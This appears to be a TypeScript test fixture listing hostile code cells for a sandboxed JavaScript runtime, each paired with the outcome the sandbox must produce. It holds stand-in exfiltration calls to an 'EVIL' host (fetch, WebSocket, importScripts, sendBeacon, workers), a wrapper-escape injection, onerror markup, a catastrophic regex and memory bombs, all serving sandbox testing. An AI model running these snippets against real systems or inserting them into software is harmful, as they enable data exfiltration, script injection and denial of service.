// Cells that mean harm, and what each must come to. `EVIL` is the address of a server that counts who comes.

export interface Hostile {
  /** A1 to A20 are those of the design's list. */
  readonly name: string;
  readonly source: string;
  /** endless: it runs until it is stopped · otherwise how it ends by itself. */
  readonly ends: 'endless' | 'done' | 'failed' | 'either';
  /** The code of its last error. */
  readonly code?: string;
  /** What must be found in its output as text. */
  readonly text?: RegExp;
  /** Milliseconds before the reader stops it, where the usual is too soon. */
  readonly patience?: number;
  /** Errors it must show, late ones among them. */
  readonly errors?: number;
}

const hostile = (
  name: string,
  source: string,
  ends: Hostile['ends'],
  more: Partial<Hostile> = {},
): Hostile => ({
  name,
  source,
  ends,
  ...more,
});

/** The list of the design, but for the two that fill memory. */
export const listed: readonly Hostile[] = [
  hostile('A1 an endless loop', 'while(true){}', 'endless'),
  hostile(
    'A2 an endless chain of promises',
    'await new Promise(()=>{const f=()=>Promise.resolve().then(f);f()})',
    'endless',
  ),
  hostile('A3 a pattern that never ends', '/^(a+)+$/.test("a".repeat(40)+"!")', 'endless'),
  hostile('A6 a billion lines', 'for(let i=0;i<1e9;i++)console.log("line "+i)', 'endless', {
    text: /"cut"/,
    patience: 2000,
  }),
  hostile('A7 a line of a quarter of a gigabyte', 'console.log("x".repeat(2**28))', 'done', {
    text: /268435456/,
  }),
  hostile('A8 a flood of messages', 'for(;;)self.postMessage({k:"log",v:"x".repeat(10000)})', 'failed'),
  hostile('A9 fetch', 'await fetch("http://EVIL/?c="+1)', 'failed', { code: 'no-network' }),
  hostile(
    'A9 XMLHttpRequest',
    'const x=new XMLHttpRequest();x.open("GET","http://EVIL/");x.send()',
    'failed',
    { code: 'no-network' },
  ),
  hostile('A9 WebSocket', 'new WebSocket("ws://EVIL/")', 'failed', { code: 'no-network' }),
  hostile('A9 EventSource', 'new EventSource("http://EVIL/")', 'failed', { code: 'no-network' }),
  hostile('A10 importScripts', 'importScripts("http://EVIL/a.js")', 'failed', { code: 'no-network' }),
  hostile('A11 import()', 'await import("http://EVIL/a.js")', 'failed', { code: 'unknown-module' }),
  hostile(
    'A11 import() made of text',
    'await new Function("return import(\'http://EVIL/a.js\')")()',
    'failed',
    { code: 'no-network' },
  ),
  hostile(
    'A11 import() of data',
    'await new Function("return import(\'data:text/javascript,1\')")()',
    'failed',
    { code: 'no-network' },
  ),
  hostile(
    'A12 a worker of a worker',
    `new Worker(URL.createObjectURL(new Blob(['fetch("http://EVIL")'])))`,
    'failed',
    { code: 'no-network' },
  ),
  hostile(
    'A12 by data and by address',
    'for (const u of ["data:,fetch(\'http://EVIL\')", "http://EVIL/w.js"]) try { new self.Worker(u) } catch (e) { console.log(e) } new self.Worker("http://EVIL")',
    'failed',
    { code: 'no-network' },
  ),
  hostile('A13 many workers', 'for (let i = 0; i < 24; i++) new Worker("blob:x")', 'failed', {
    code: 'no-network',
  }),
  hostile('A14 a data base', 'indexedDB.open("site")', 'failed', { code: 'no-network' }),
  hostile('A14 caches', 'await caches.open("x")', 'failed', { code: 'no-network' }),
  hostile('A14 locks', 'await navigator.locks.request("site", () => 1)', 'failed', { code: 'no-network' }),
  hostile('A14 a channel', 'new BroadcastChannel("site").postMessage("x")', 'failed', { code: 'no-network' }),
  hostile('A14 files', 'await navigator.storage.getDirectory()', 'failed', { code: 'no-network' }),
  hostile('A15 a changed language', 'MessagePort?.prototype;Object.prototype.k="done"', 'failed', {
    code: 'not-defined',
  }),
  hostile(
    'A15 a changed language that goes on',
    'Object.prototype.k="done";Array.prototype.push=()=>{};String.prototype.slice=()=>"evil";console.log("a", [1]);7',
    'done',
    { text: /"text":"7"/ },
  ),
  hostile(
    'A16 a value that does not end',
    'return {toString(){while(true){}}, get a(){while(true){}}}',
    'done',
    { text: /getter/ },
  ),
  hostile('A17 a timer that stays', 'setInterval(()=>console.log("late"),10); return "done"', 'done', {
    text: /"text":"done"/,
  }),
  hostile(
    'A18 late errors',
    'Promise.reject(new Error("boom")); setTimeout(()=>{throw new Error("later")},5); return',
    'done',
    { errors: 2, text: /boom.*later/ },
  ),
  hostile(
    'A19 markup',
    `console.log('<img src=x onerror="parent.document.title=1"><script>parent.document.title=1<\\/script>')`,
    'done',
    { text: /<img src=x/ },
  ),
  hostile('A20 a way out of the wrapper', '}})(); fetch("//EVIL"); (async()=>{try{', 'failed', {
    code: 'syntax',
  }),
  hostile('A20 a million lists', 'let a=[];for(let i=0;i<1e6;i++)a=[a];return a', 'done', { text: /deep/ }),
];

/** More of the kind. */
export const more: readonly Hostile[] = [
  hostile(
    'MessageEvent',
    'Object.defineProperty(globalThis.MessageEvent?.prototype ?? {}, "data", { get: () => "x" }); 1',
    'done',
  ),
  hostile(
    'Promise',
    'Promise.prototype.then = Promise.prototype.constructor = () => { throw 1 }; Promise.resolve = 0; 1',
    'done',
    { text: /"text":"1"/ },
  ),
  hostile(
    'JSON and call',
    'JSON.stringify = JSON.parse = () => "evil"; Function.prototype.call = Function.prototype.apply = Function.prototype.bind = 0; Reflect.apply = 0; 1',
    'done',
    { text: /"text":"1"/ },
  ),
  hostile(
    'the global names themselves',
    'Object = Array = JSON = Promise = Reflect = Error = 0; performance = 0; 1',
    'either',
  ),
  hostile('a frozen language', 'Object.freeze(Array.prototype); Object.freeze(Object.prototype); 1', 'done', {
    text: /"text":"1"/,
  }),
  hostile(
    'a changed engine',
    'import * as t from "tuidao"; const e = t as any; e.exp = () => 0; for (const k in e) try { e[k].call = 1; e[k].x = 2 } catch {} 1',
    'either',
  ),
  hostile('waiting', 'Atomics.wait(new Int32Array(new ArrayBuffer(8)), 0, 0)', 'failed'),
  hostile('shared memory', 'new SharedArrayBuffer(8)', 'failed', { code: 'not-defined' }),
  hostile('a proxy that does not end', 'return new Proxy({}, { ownKeys() { for (;;); } })', 'endless'),
  hostile(
    'a proxy in a print',
    'console.log(new Proxy([], { getOwnPropertyDescriptor() { for (;;); } }))',
    'endless',
  ),
  hostile(
    'a proxy that lies',
    'return new Proxy([1, 2], { getPrototypeOf: () => { throw 1 }, ownKeys: () => ["length"], get: () => 3 })',
    'done',
  ),
  hostile('a promise of its own', 'return { then() {} }', 'endless'),
  hostile(
    'a promise that prints for ever',
    'return { then(f) { setInterval(() => f(this), 1); for (let i = 0; i < 1e5; i++) console.log(i) } }',
    'endless',
  ),
  hostile('a long string', 'return "\\u{1F600}".repeat(2 ** 26)', 'done', { text: /"length":134217728/ }),
  hostile('a long list', 'return new Array(2 ** 32 - 1)', 'done', { text: /4294967295/ }),
  hostile('a wide record', 'const o = {}; for (let i = 0; i < 3e5; i++) o["k" + i] = i; return o', 'done', {
    text: /"size":300000/,
  }),
  hostile('a large number', 'return 2n ** 200000n', 'done'),
  hostile(
    'a deep record',
    'let o = {}; for (let i = 0; i < 1e5; i++) o = { o }; console.log(o); return o',
    'done',
    { text: /deep/ },
  ),
  hostile('debugger', 'debugger; 1', 'done', { text: /"text":"1"/ }),
  hostile(
    'an endless generator',
    'async function* g() { outer: for (;;) { for (;;) { yield 1; continue outer; } } } for await (const x of g()) ;',
    'endless',
  ),
  hostile('WebAssembly', 'new WebAssembly.Memory({ initial: 1 })', 'failed', { code: 'not-defined' }),
  hostile('a canvas', 'new OffscreenCanvas(1e4, 1e4)', 'failed', { code: 'not-defined' }),
  hostile('navigator', 'navigator.sendBeacon("http://EVIL/")', 'failed', { code: 'no-network' }),
  hostile(
    'an error that asks',
    'const e = new Error("m"); for (const k of ["stack", "name", "message"]) Object.defineProperty(e, k, { get() { for (;;); } }); throw e',
    'failed',
  ),
  hostile('a stack of its own', 'Error.prepareStackTrace = () => { for (;;); }; null.x', 'either'),
  hostile('an error by a proxy', 'throw new Proxy(new Error("m"), { get() { for (;;); } })', 'failed'),
  hostile(
    'the powers of text',
    'const g = (0, eval)("globalThis"); const f = new Function("return this")(); [typeof g.fetch, typeof f.postMessage, typeof g.close, typeof f.Worker].join()',
    'done',
    { text: /undefined,undefined,undefined,undefined/ },
  ),
  hostile('a closed worker', 'self.close()', 'failed'),
  hostile('timers of text', 'setTimeout("fetch(\'http://EVIL\')", 0)', 'failed'),
  hostile('promises without end', 'for (let i = 0; i < 1e5; i++) Promise.reject(i); return', 'either'),
  hostile('a loop after the end', '(async () => { for (;;) await 0; })(); return 1', 'either'),
  hostile(
    'a name of the runtime',
    'const send = 1; typeof $bind + typeof current + typeof realm + typeof port',
    'done',
    { text: /undefinedundefinedundefined/ },
  ),
  hostile('lines of errors', 'for (let i = 0; i < 1e5; i++) console.error(new Error("e" + i))', 'done', {
    text: /"cut"/,
  }),
  hostile('a text for the parser', `${'('.repeat(3000)}1${')'.repeat(3000)}`, 'either'),
  hostile('a text that doubles', `${'(a = '.repeat(24)}1${')'.repeat(24)}`, 'either'),
];

/** Memory is what these are after; the browser gets little for them. */
export const bombs: readonly Hostile[] = [
  hostile('A4 small objects', 'const a=[];while(true)a.push({a:[1,2,3,a.length],b:"x"+a.length})', 'either'),
  hostile(
    'A5 large arrays',
    'const a=[];for(let i=0;i<30;i++)a.push(new Float64Array(1.2e7).fill(i))',
    'either',
  ),
];
